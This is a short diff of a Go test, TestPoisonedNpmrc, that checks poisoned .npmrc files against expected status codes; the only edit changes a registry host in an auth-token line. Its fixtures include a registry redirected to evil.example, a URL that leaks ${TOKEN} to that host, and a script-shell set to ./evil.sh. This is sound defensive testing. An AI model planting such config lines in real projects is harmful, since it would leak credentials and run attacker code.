@@ -245,7 +245,7 @@ func TestPoisonedNpmrc(t *testing.T) {
 		status    int
 	}{
 		{"save-exact=true\n# a comment\nfund = false\n", ".npmrc", true, 0},
-		{"//registry.npmjs.org/:_authToken=${TOKEN}\n", ".npmrc", true, 126},
+		{"//registry.example.com/:_authToken=${TOKEN}\n", ".npmrc", true, 126},
 		{"@a:registry=https://evil.example/\n", ".npmrc", true, 126},
 		{"registry=https://evil.example/${TOKEN}\n", ".npmrc", true, 126},
 		{"script-shell=./evil.sh\n", ".npmrc", true, 126},
